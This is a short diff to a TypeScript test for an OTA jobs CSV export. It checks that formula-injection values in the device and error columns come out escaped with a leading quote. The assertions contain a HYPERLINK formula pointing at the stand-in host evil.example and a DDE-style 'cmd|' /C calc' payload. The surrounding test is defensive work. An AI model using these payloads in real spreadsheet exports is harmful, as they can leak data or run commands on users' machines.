@@ -323,7 +323,8 @@ describe('OTA jobs', () => {
     const cell = (name: string) => row?.[header?.indexOf(name) ?? -1];
     // Read back as a spreadsheet reads it: text, with the formula's first character behind a quote.
     expect(cell('device')).toBe(`'${link}`);
-    expect(cell('error')).toBe(`'${payload}`);
+    expect(cell('firstError')).toBe(`'${payload}`);
+    expect(cell('lastError')).toBe(`'${payload}`);
     expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example`);
     expect(csv.body).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
   });
